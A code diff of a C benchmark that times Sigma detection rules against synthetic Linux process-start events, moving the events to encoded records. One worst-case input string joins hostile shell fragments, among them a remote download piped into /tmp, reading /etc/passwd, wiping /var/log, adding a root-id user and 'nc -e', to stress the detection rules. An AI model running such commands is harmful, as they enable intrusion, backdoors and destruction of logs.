@@ -2,14 +2,16 @@
 /*
  * How many process events a second go through Sigma rules on one core: with 10, 100 and
  * all rules of ../shared/data/sigma, beside the floor: a single rule on one short field,
- * which is what asking and reporting nothing costs. Events are what a machine does that
- * builds, serves and is looked after; one in thirty does what a rule looks for. Rounds in
- * turn, the best of each. Then how the cost grows with the rules, and the dearest events.
+ * which is what asking and reporting nothing costs. Events are process.started as `trace`
+ * publishes it, of a machine that builds, serves and is looked after; one in thirty does
+ * what a rule looks for. Once as what process_creation has of it, once as every record
+ * that plugin edr makes of it, which auditd's are as well. Rounds in turn, the best of
+ * each. Then how the cost grows with the rules, and the dearest events.
  *
  *     {"bench":"sigma_memory","rules":505,"load_ms":..,"rss_mb":..,"goal_mb":60}
- *     {"bench":"sigma_events","rules":505,"rules_of_source":..,"events_per_s":..,
- *      "goal":300000,"floor_events_per_s":..,"ratio":..,"looked_at_per_event":..,
- *      "matches_per_event":..}
+ *     {"bench":"sigma_events","rules":505,"rules_live":..,"events_per_s":..,
+ *      "goal":300000,"floor_events_per_s":..,"ratio":..,"all_records_per_s":..,
+ *      "looked_at_per_event":..,"matches_per_event":..}
  *     {"bench":"sigma_flatness","rules_from":10,"rules_to":505,"cost_ratio":..,
  *      "ns_per_rule":..}
  *     {"bench":"sigma_worst","case":"..","bytes":65536,"us":..}
@@ -18,33 +20,24 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
-#include <strings.h>
 #include <time.h>
 #include <unistd.h>
 
-#include "sigma/sigma.h"
+#include "sigma/record.h"
 
 #define DATA BENCH_SOURCE_DIR "/../shared/data/sigma/"
 #define EVENTS 512 /* different ones */
 #define ROUND_EVENTS 200000
 #define ROUNDS 3
-#define FIELDS 10
-#define VALUES_MAX 2 /* of a field */
 #define PATHS_MAX 2048
 #define WORST_BYTES 65536
-#define WORST_ARGS 4096
 #define WORST_ROUNDS 20
-
-struct process_event {
-    struct tocsin_str values[FIELDS][VALUES_MAX];
-    char texts[FIELDS][320];
-};
 
 struct rules {
     struct tc_sigma_set *set;
     struct tc_sigma_scratch *scratch;
     size_t count;
-    double best; /* events a second */
+    double best, best_all; /* events a second; each as all its records */
     uint64_t matches;
 };
 
@@ -52,10 +45,6 @@ struct paths {
     char *items[PATHS_MAX];
     size_t count;
 };
-
-static const char *const names[FIELDS] = {
-    "Image",     "CommandLine",      "ParentImage", "ParentCommandLine", "User",
-    "ProcessId", "CurrentDirectory", "LogonId",     "ParentProcessId",   "ParentUser"};
 
 /* Of this thread on a core: whatever else the machine does takes none of it. */
 static double now_s(void)
@@ -124,57 +113,84 @@ static const struct command odd[] = {
 
 #define COUNT(array) (sizeof(array) / sizeof(*(array)))
 
-static void set_text(struct process_event *event, size_t field, size_t value,
-                     const char *text)
+/* The arguments are the words of the command line. */
+static void put_args(struct tocsin_writer *w, const char *line)
 {
-    event->values[field][value] = (struct tocsin_str){text, strlen(text)};
+    size_t len, count = 0;
+
+    tocsin_begin_array(w, "args");
+    for (const char *at = line; *at; at += len + (at[len] == ' ')) {
+        len = strcspn(at, " ");
+        tocsin_put_strn(w, NULL, at, len);
+        count++;
+    }
+    tocsin_end(w);
+    tocsin_put_uint(w, "args_count", count);
 }
 
-static void make_event(struct process_event *event, unsigned i)
+static void put_user(struct tocsin_writer *w, uint64_t id)
+{
+    tocsin_begin_map(w, "user");
+    tocsin_put_uint(w, "id", id);
+    tocsin_put_str(w, "name", "builder");
+    tocsin_begin_map(w, "effective");
+    tocsin_put_uint(w, "id", id);
+    tocsin_end(w);
+    tocsin_end(w);
+}
+
+static void put_parent(struct tocsin_writer *w, uint64_t pid, const char *image,
+                       const char *line)
+{
+    tocsin_begin_map(w, "parent");
+    tocsin_put_uint(w, "pid", pid);
+    tocsin_put_uint(w, "start", 1795328952360000000 + pid);
+    tocsin_put_str(w, "name", strrchr(image, '/') + 1);
+    tocsin_put_str(w, "executable", image);
+    tocsin_put_str(w, "command_line", line);
+    tocsin_end(w);
+}
+
+/* As docs/events.md has it. */
+static void encode(struct tocsin_writer *w, unsigned i, const struct command *command,
+                   const char *line, const struct command *parent,
+                   const char *parent_line)
+{
+    tocsin_writer_init_growing(w);
+    tocsin_begin_map(w, NULL);
+    tocsin_put_uint(w, "@timestamp", 1795328960244649549 + i);
+    tocsin_begin_map(w, "event");
+    tocsin_put_uint(w, "sequence", i);
+    tocsin_end(w);
+    tocsin_put_str(w, "sensor", "trace");
+    tocsin_begin_map(w, "process");
+    tocsin_put_uint(w, "pid", 1000 + i);
+    tocsin_put_uint(w, "start", 1795328959930000000 + i);
+    tocsin_put_str(w, "name", strrchr(command->image, '/') + 1);
+    tocsin_put_str(w, "executable", command->image);
+    put_user(w, 1000 + i % 5);
+    tocsin_put_str(w, "exec_path", command->asked);
+    tocsin_put_str(w, "command_line", line);
+    put_args(w, line);
+    tocsin_put_str(w, "working_directory", "/srv/build");
+    put_parent(w, 900 + i / 8, parent->image, parent_line);
+    tocsin_end(w);
+    tocsin_end(w);
+    if (w->error)
+        die("out of memory");
+}
+
+static void make_event(struct tocsin_writer *event, unsigned i)
 {
     const struct command *command =
         i % 30 == 29 ? &odd[i / 30 % COUNT(odd)] : &commands[i * 7 % COUNT(commands)];
     const struct command *parent = &commands[i / 8 % COUNT(commands)];
-    char(*t)[320] = event->texts;
+    char line[320], parent_line[320];
 
-    snprintf(t[1], sizeof(t[1]), "%s %s /srv/build/%u/file-%u.c", command->asked,
+    snprintf(line, sizeof(line), "%s %s /srv/build/%u/file-%u.c", command->asked,
              command->arguments, i, i * 7919);
-    snprintf(t[3], sizeof(t[3]), "%s %s", parent->asked, parent->arguments);
-    snprintf(t[4], sizeof(t[4]), "builder%u", i % 5);
-    snprintf(t[5], sizeof(t[5]), "%u", 1000 + i);
-    snprintf(t[6], sizeof(t[6]), "/srv/build/%u", i);
-    snprintf(t[7], sizeof(t[7]), "%u", 1000 + i % 5);
-    snprintf(t[8], sizeof(t[8]), "%u", 900 + i / 8);
-    snprintf(t[9], sizeof(t[9]), "builder%u", i / 8 % 5);
-    for (size_t f = 0; f < FIELDS; f++)
-        set_text(event, f, 0, t[f]);
-    set_text(event, 0, 0, command->image);
-    set_text(event, 0, 1, command->asked);
-    set_text(event, 2, 0, parent->image);
-}
-
-static bool field(void *arg, const char *name, size_t index, struct tc_sigma_value *ret)
-{
-    const struct process_event *event = arg;
-
-    for (size_t i = 0; index < VALUES_MAX && i < FIELDS; i++)
-        if (!strcmp(names[i], name)) {
-            *ret = (struct tc_sigma_value){TC_SIGMA_TEXT, event->values[i][index], 0};
-            return event->values[i][index].ptr != NULL;
-        }
-    return false;
-}
-
-static bool any(void *arg, size_t index, struct tc_sigma_value *ret)
-{
-    const struct process_event *event = arg;
-
-    if (index > FIELDS)
-        return false;
-    /* The second value of Image is the last. */
-    *ret = (struct tc_sigma_value){TC_SIGMA_TEXT,
-                                   event->values[index % FIELDS][index / FIELDS], 0};
-    return true;
+    snprintf(parent_line, sizeof(parent_line), "%s %s", parent->asked, parent->arguments);
+    encode(event, i, command, line, parent, parent_line);
 }
 
 /* ---- Rules ---- */
@@ -238,25 +254,27 @@ static void count_match(void *arg, const struct tc_sigma_match *match)
     rules->matches++;
 }
 
-/* As the agent has it: an event that is of no service is none of a service's log. */
-static const struct tc_sigma_event process_creation = {.category = "process_creation",
-                                                       .product = "linux",
-                                                       .service = "",
-                                                       .field = field,
-                                                       .any = any};
-
-static void run(struct rules *rules, struct process_event *events)
+/* The first `records` of what the event is to Sigma. */
+static void judge(struct rules *rules, const struct tocsin_writer *event, size_t records)
 {
-    struct tc_sigma_event event = process_creation;
+    struct tc_sigma_record record;
+
+    for (size_t i = 0; i < records && tc_sigma_record(&record, i, "process.started",
+                                                      event->buf, event->len, 0);
+         i++)
+        tc_sigma_evaluate(rules->set, rules->scratch, &record.sigma, count_match, rules);
+}
+
+static void run(struct rules *rules, const struct tocsin_writer *events, size_t records,
+                double *best)
+{
     double start = now_s(), rate;
 
-    for (unsigned i = 0; i < ROUND_EVENTS; i++) {
-        event.arg = &events[i % EVENTS];
-        tc_sigma_evaluate(rules->set, rules->scratch, &event, count_match, rules);
-    }
+    for (unsigned i = 0; i < ROUND_EVENTS; i++)
+        judge(rules, &events[i % EVENTS], records);
     rate = ROUND_EVENTS / (now_s() - start);
-    if (rate > rules->best)
-        rules->best = rate;
+    if (rate > *best)
+        *best = rate;
 }
 
 static double rss_mb(void)
@@ -270,36 +288,30 @@ static double rss_mb(void)
     return (double)pages * (double)sysconf(_SC_PAGESIZE) / (1 << 20);
 }
 
-static bool agrees(const char *rule, const char *event)
-{
-    return !rule || !strcasecmp(rule, event);
-}
-
-/* How many of the rules are for these events; the others cost them nothing. */
-static size_t of_source(const struct tc_sigma_set *set)
+/* How many of the rules an event of ours can match. */
+static size_t count_live(const struct tc_sigma_set *set)
 {
     size_t count = 0;
 
-    for (size_t i = 0; i < tc_sigma_count(set); i++) {
-        const struct tc_sigma_rule *rule = tc_sigma_rule(set, i);
-
-        count += agrees(rule->category, process_creation.category) &&
-                 agrees(rule->product, process_creation.product) &&
-                 agrees(rule->service, process_creation.service);
-    }
+    for (size_t i = 0; i < tc_sigma_count(set); i++)
+        count += !tc_sigma_no_source(set, i);
     return count;
 }
 
-static void report(const struct rules *rules, const struct rules *floor)
+static void report(struct rules *rules, const struct rules *floor,
+                   const struct tocsin_writer *events)
 {
     struct tc_sigma_counters counters;
 
     tc_sigma_counters(rules->scratch, &counters);
-    printf("{\"bench\":\"sigma_events\",\"rules\":%zu,\"rules_of_source\":%zu,"
+    for (int round = 0; round < ROUNDS; round++)
+        run(rules, events, TC_RECORDS_MAX, &rules->best_all);
+    printf("{\"bench\":\"sigma_events\",\"rules\":%zu,\"rules_live\":%zu,"
            "\"events_per_s\":%.0f,\"goal\":300000,\"floor_events_per_s\":%.0f,"
-           "\"ratio\":%.2f,\"looked_at_per_event\":%.3f,\"matches_per_event\":%.4f}\n",
-           rules->count, of_source(rules->set), rules->best, floor->best,
-           rules->best / floor->best,
+           "\"ratio\":%.2f,\"all_records_per_s\":%.0f,\"looked_at_per_event\":%.3f,"
+           "\"matches_per_event\":%.4f}\n",
+           rules->count, count_live(rules->set), rules->best, floor->best,
+           rules->best / floor->best, rules->best_all,
            (double)counters.looked_at / (double)counters.events,
            (double)counters.matched / (double)counters.events);
 }
@@ -316,47 +328,14 @@ static void report_flatness(const struct rules *few, const struct rules *all)
 
 /* ---- The dearest events ---- */
 
-struct dear_event {
-    struct process_event process;
-    struct tocsin_str args[WORST_ARGS]; /* a0, a1, ... of a record of auditd */
-    size_t arg_count;
-};
-
-static bool record_field(void *arg, const char *name, size_t index,
-                         struct tc_sigma_value *ret)
-{
-    const struct dear_event *event = arg;
-    size_t n;
-
-    *ret = (struct tc_sigma_value){TC_SIGMA_TEXT, {"EXECVE", 6}, 0};
-    if (index == 0 && !strcmp(name, "type"))
-        return true;
-    if (index || name[0] != 'a' || name[1] < '0' || name[1] > '9')
-        return false;
-    n = strtoul(name + 1, NULL, 10);
-    if (n < event->arg_count)
-        ret->text = event->args[n];
-    return n < event->arg_count;
-}
-
-static bool record_any(void *arg, size_t index, struct tc_sigma_value *ret)
-{
-    const struct dear_event *event = arg;
-
-    if (index >= event->arg_count)
-        return false;
-    *ret = (struct tc_sigma_value){TC_SIGMA_TEXT, event->args[index], 0};
-    return true;
-}
-
-static void measure_dear(struct rules *rules, const struct tc_sigma_event *event,
+static void measure_dear(struct rules *rules, const struct tocsin_writer *event,
                          const char *what)
 {
     double least = 0, took;
 
     for (int round = 0; round < WORST_ROUNDS; round++) {
         took = now_s();
-        tc_sigma_evaluate(rules->set, rules->scratch, event, count_match, rules);
+        judge(rules, event, TC_RECORDS_MAX);
         took = now_s() - took;
         least = !round || took < least ? took : least;
     }
@@ -364,8 +343,9 @@ static void measure_dear(struct rules *rules, const struct tc_sigma_event *event
            WORST_BYTES, least * 1e6);
 }
 
-/* Command lines of 64 KiB that say one thing again and again. */
-static void measure_worst(struct rules *rules, const struct process_event *usual)
+/* Command lines of 64 KiB that say one thing again and again; their parents' are alike.
+ * All records of each. */
+static void measure_worst(struct rules *rules)
 {
     static const struct {
         const char *what, *text;
@@ -377,39 +357,27 @@ static void measure_worst(struct rules *rules, const struct process_event *usual
         {"text that many rules look for",
          " /bin/sh -c 'curl http://1.2.3.4/x|base64 -d >/tmp/x; chmod 777 /tmp/x; nohup "
          "crontab -l; cat /etc/passwd; rm -rf /var/log; useradd -o -u 0 x; nc -e' &"},
+        {"4096 arguments", "--argument-1234 "},
     };
-    struct tc_sigma_event event = process_creation, record = process_creation;
-    struct dear_event *dear = calloc(1, sizeof(*dear));
-    char *text = malloc(WORST_BYTES);
+    char *text = malloc(WORST_BYTES + 1);
+    struct tocsin_writer event;
 
-    if (!dear || !text)
+    if (!text)
         die("out of memory");
-    dear->process = *usual;
-    event.arg = &dear->process;
     for (size_t i = 0; i < COUNT(cases); i++) {
         for (size_t n = 0; n < WORST_BYTES; n++)
             text[n] = cases[i].text[n % strlen(cases[i].text)];
-        for (size_t f = 1; f <= 3; f += 2) /* its own and its parent's */
-            dear->process.values[f][0] = (struct tocsin_str){text, WORST_BYTES};
+        text[WORST_BYTES] = '\0';
+        encode(&event, 0, &commands[0], text, &commands[1], text);
         measure_dear(rules, &event, cases[i].what);
+        tocsin_writer_done(&event);
     }
-    record.category = "";
-    record.service = "auditd";
-    record.field = record_field;
-    record.any = record_any;
-    record.arg = dear;
-    dear->arg_count = WORST_ARGS;
-    for (size_t i = 0; i < WORST_ARGS; i++)
-        dear->args[i] = (struct tocsin_str){text + i * (WORST_BYTES / WORST_ARGS),
-                                            WORST_BYTES / WORST_ARGS};
-    measure_dear(rules, &record, "4096 arguments of a record of auditd");
     free(text);
-    free(dear);
 }
 
 int main(void)
 {
-    struct process_event *events = calloc(EVENTS, sizeof(*events));
+    struct tocsin_writer *events = calloc(EVENTS, sizeof(*events));
     struct rules floor, sets[3];
     struct paths paths = {.count = 0};
     double start;
@@ -429,7 +397,7 @@ int main(void)
     start = now_s();
     load(&sets[2], &paths, paths.count);
     start = now_s() - start;
-    run(&sets[2], events);
+    run(&sets[2], events, 1, &sets[2].best);
     printf("{\"bench\":\"sigma_memory\",\"rules\":%zu,\"load_ms\":%.0f,\"rss_mb\":%.1f,"
            "\"goal_mb\":60}\n",
            paths.count, start * 1e3, rss_mb());
@@ -437,14 +405,14 @@ int main(void)
     load(&sets[1], &paths, 100);
     load(&floor, &paths, 0);
     for (int round = 0; round < ROUNDS; round++) {
-        run(&floor, events);
+        run(&floor, events, 1, &floor.best);
         for (size_t i = 0; i < 3; i++)
-            run(&sets[i], events);
+            run(&sets[i], events, 1, &sets[i].best);
     }
     for (size_t i = 0; i < 3; i++)
-        report(&sets[i], &floor);
+        report(&sets[i], &floor, events);
     report_flatness(&sets[0], &sets[2]);
-    measure_worst(&sets[2], events);
+    measure_worst(&sets[2]);
     for (size_t i = 0; i < 3; i++) {
         tc_sigma_scratch_free(sets[i].scratch);
         tc_sigma_set_free(sets[i].set);
@@ -453,6 +421,8 @@ int main(void)
     tc_sigma_set_free(floor.set);
     for (size_t i = 0; i < paths.count; i++)
         free(paths.items[i]);
+    for (size_t e = 0; e < EVENTS; e++)
+        tocsin_writer_done(&events[e]);
     free(events);
     return 0;
 }
